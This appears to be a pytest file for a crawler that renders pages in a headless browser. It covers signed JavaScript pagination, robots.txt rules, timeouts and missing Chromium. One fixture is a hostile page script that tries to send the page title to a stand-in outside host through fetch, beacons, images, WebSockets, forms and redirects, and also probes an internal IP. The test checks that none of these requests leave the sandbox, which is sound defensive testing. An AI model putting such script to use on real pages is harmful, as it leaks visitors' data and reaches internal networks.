"""Sites that need a browser: it runs pages on what was fetched under all rules, and sends nothing itself."""

from __future__ import annotations

import json
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest

from tests.crawler.crawls import crawl, registry, rows
from tests.crawler.servers import Answer, Asked, Page, report, serve
from tests.crawler.test_crawl import NOT_SENT, sound, title, trs_site
from tests.web.chromium import BROWSER

pytestmark = BROWSER
HEAD = "<html><head><title>政府信息公开年报</title></head><body>"
SIGN = """
var wheel = "政务公开".split("").map(function (sign) { return sign.charCodeAt(0) % 97; });
function sign(page) { return wheel.reduce(function (sum, n, i) { return (sum * 31 + n * (i + page)) % 99991; }, 7); }
"""
LIST = (
    HEAD
    + """<script src="/js/sign.js"></script><ul id="rows"></ul><div class="pager" id="pager"></div>
<script>
var at = 1;
function draw(told) {
  document.getElementById("rows").innerHTML = told.rows.map(function (row) {
    return "<li><a href='" + row[0] + "'>" + row[1] + "</a><span>" + row[2] + "</span></li>";
  }).join("");
  document.getElementById("pager").innerHTML = at < told.last ? "<b onclick='show(at + 1)'>下一页</b>" : "";
}
function show(page) {
  at = page;
  var call = new XMLHttpRequest();
  call.open("GET", ["/a", "pi/", "rows"].join("") + "?n=" + page + "&_=" + Date.now() + "&r=" + Math.random());
  call.setRequestHeader("X-Sign", "s" + sign(page));
  call.onload = function () { draw(JSON.parse(call.responseText)); };
  call.send();
}
show(1);
</script></body></html>"""
)


def signed(page: int) -> str:
    """What the script of the page computes."""
    total = 7
    for place, sign in enumerate("政务公开"):
        total = (total * 31 + ord(sign) % 97 * (place + page)) % 99991
    return f"s{total}"


def signed_site(count: int = 7, per_page: int = 4) -> dict[str, Page]:
    """A list of two pages; each is told only to who signs for it."""
    items = [(f"/nb/t20240119_{n}.html", title(n), "2024-01-19") for n in range(1, count + 1)]

    def answer(asked: Asked) -> Answer:
        page = int(parse_qs(urlsplit(asked.path).query)["n"][0])
        if asked.headers.get("X-Sign") != signed(page):
            return Answer("unsigned", 400)
        told = {"rows": items[(page - 1) * per_page : page * per_page], "last": -(-count // per_page)}
        return Answer(json.dumps(told), headers={"Content-Type": "application/json"})

    pages: dict[str, Page] = {url: report(name, n) for n, (url, name, _) in enumerate(items, start=1)}

    def program(asked: Asked) -> Answer:
        kind = {"Content-Type": "application/javascript; charset=utf-8", "ETag": '"1"'}
        known = asked.headers.get("If-None-Match") == '"1"'
        return Answer("" if known else SIGN, 304 if known else 200, kind)

    return {**pages, "/nb/": LIST, "/js/sign.js": program, "/api/rows": answer}


def test_a_signed_list_with_a_pager_by_script_is_read_whole(tmp_path: Path) -> None:
    with serve(signed_site()) as server:
        sites = registry(tmp_path, one={"columns": [server.url + "/nb/"], "adapter": "browser"})
        archive = tmp_path / "archive.db"
        first = crawl(sites, archive, now="2024-02-01T00:00:00+00:00")
        asked = [each.path for each in server.asked]
        agents = {each.headers["User-Agent"] for each in server.asked}
        server.asked.clear()
        second = crawl(sites, archive, now="2024-02-01T06:00:00+00:00")
        again = [each.path.partition("&")[0] for each in server.asked]
    assert first["sites"]["one"] == {
        "state": "ok", "reason": "", "lists": 1, "entries": 7, "new_captures": 7, "adapter": "browser",
    }  # fmt: skip
    assert len(asked) == len(set(asked)) == 12 == first["requests"]
    assert asked[:3] == ["/robots.txt", "/nb/", "/js/sign.js"]
    assert [path.partition("&")[0] for path in asked if "/api/" in path] == ["/api/rows?n=1", "/api/rows?n=2"]
    assert len(agents) == 1
    assert "Chrom" not in agents.pop()
    # Another night the program is only asked whether it has changed.
    assert again == ["/nb/", "/js/sign.js", "/api/rows?n=1", "/api/rows?n=2"]
    assert second["sites"]["one"] == first["sites"]["one"] | {"new_captures": 0}
    assert rows(archive, "SELECT outcome FROM requests WHERE url LIKE '%sign.js'") == [
        ("new",),
        ("not_modified",),
    ]
    assert rows(archive, "SELECT count(*) FROM captures WHERE role = 'data'") == [(5,)]
    sound(tmp_path)


def test_a_page_of_an_application_is_told_by_its_fragment(tmp_path: Path) -> None:
    routed = LIST.replace("show(1);", 'if (location.hash === "#/nb") show(1);')
    with serve({**signed_site(2), "/app": routed}) as server:
        sites = registry(tmp_path, one={"columns": [server.url + "/app#/nb"], "adapter": "browser"})
        result = crawl(sites, tmp_path / "archive.db")
    assert (result["sites"]["one"]["state"], result["sites"]["one"]["new_captures"]) == ("ok", 2)


def test_what_robots_txt_closes_is_not_asked_and_is_told(tmp_path: Path) -> None:
    rules = Answer("User-agent: *\nDisallow: /api/", headers={"Content-Type": "text/plain"})
    with serve({**signed_site(), "/robots.txt": rules}) as server:
        sites = registry(tmp_path, one={"columns": [server.url + "/nb/"], "adapter": "browser"})
        result = crawl(sites, tmp_path / "archive.db")
        assert not [path for path in server.paths() if "/api/" in path]
    assert result["sites"]["one"]["state"] == "needs_js"
    assert "/api/rows" in result["sites"]["one"]["reason"]
    assert "closed by robots.txt" in result["sites"]["one"]["reason"]


HOSTILE = """<script>
document.body.insertAdjacentHTML("beforeend", "<ul><li><a href='/nb/t20240119_1.html'>TITLE</a>2024-01-19</li></ul>");
alert("stop"); confirm("go on?");
fetch("AWAY/fetched?" + document.title); navigator.sendBeacon("AWAY/beacon"); new Image().src = "AWAY/image.gif";
fetch("http://10.11.12.13/inside");
try { new WebSocket("AWAY/socket".replace("http", "ws")); } catch (error) { console.log(error); }
window.open("AWAY/window");
document.body.insertAdjacentHTML("beforeend", "<iframe src='AWAY/frame'></iframe><form action='AWAY/form' id=f></form>");
setTimeout(function () { document.getElementById("f").submit(); location.assign(["AWAY", "gone"].join("/")); }, 50);
</script></body></html>"""


def test_a_hostile_page_reaches_nobody(tmp_path: Path) -> None:
    with serve() as away, serve({"/nb/t20240119_1.html": report(title(1))}) as server:
        server.pages["/nb/"] = HEAD + HOSTILE.replace("TITLE", title(1)).replace("AWAY", away.url)
        sites = registry(tmp_path, one={"columns": [server.url + "/nb/"], "adapter": "browser"})
        result = crawl(sites, tmp_path / "archive.db")
        assert away.asked == []
        assert server.paths() == ["/nb/", "/nb/t20240119_1.html"]
    assert result["sites"]["one"]["new_captures"] == 1
    told = rows(tmp_path / "archive.db", "SELECT detail FROM requests WHERE url LIKE '%/nb/'")[0][0]
    assert "http://10.11.12.13/inside: its host is not in the entry" in told
    sent = rows(tmp_path / "archive.db", "SELECT outcome FROM requests")
    assert not [end for (end,) in sent if end in NOT_SENT or end is None]


def test_a_page_that_comes_to_no_end_is_ended_and_the_rest_goes_on(tmp_path: Path) -> None:
    endless = HEAD + "<script>setTimeout(function () { for (;;) {} }, 1)</script></body></html>"
    with serve({"/nb/": endless}) as server, serve(trs_site(3)) as other:
        sites = registry(
            tmp_path,
            endless={"columns": [server.url + "/nb/"], "adapter": "browser"},
            other={"columns": [other.url + "/nb/"]},
        )
        result = crawl(sites, tmp_path / "archive.db", overrides={"BROWSER_SECONDS": 12})
    assert result["outcome"] == "done"
    assert result["sites"]["other"]["state"] == "ok"
    assert result["sites"]["endless"]["state"] == "needs_js"
    assert "came to no end within 12 s" in result["sites"]["endless"]["reason"]


def test_auto_says_that_a_browser_may_read_a_list_that_is_empty_as_served(tmp_path: Path) -> None:
    with serve(signed_site()) as server:
        sites = registry(tmp_path, one={"columns": [server.url + "/nb/"]})
        result = crawl(sites, tmp_path / "archive.db")
    assert result["sites"]["one"]["state"] == "empty"
    assert 'adapter = "browser" in its entry may read it' in result["sites"]["one"]["reason"]


@pytest.mark.parametrize("adapter", ["browser", "auto"])
def test_without_chromium_the_site_is_told_what_to_install_and_the_rest_goes_on(
    adapter: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    shell = HEAD + '<div id="app"></div><script src="/js/sign.js"></script></body></html>'
    with serve({**signed_site(), "/nb/": shell}) as server, serve(trs_site(3)) as other:
        sites = registry(
            tmp_path,
            empty={"columns": [server.url + "/nb/"], "adapter": adapter},
            other={"columns": [other.url + "/nb/"]},
        )
        result = crawl(sites, tmp_path / "archive.db")
    assert result["sites"]["other"]["state"] == "ok"
    assert result["sites"]["empty"]["state"] == "needs_js"
    expected = "needs Chromium (the system's package `chromium`)" if adapter == "browser" else "may read it"
    assert expected in result["sites"]["empty"]["reason"]
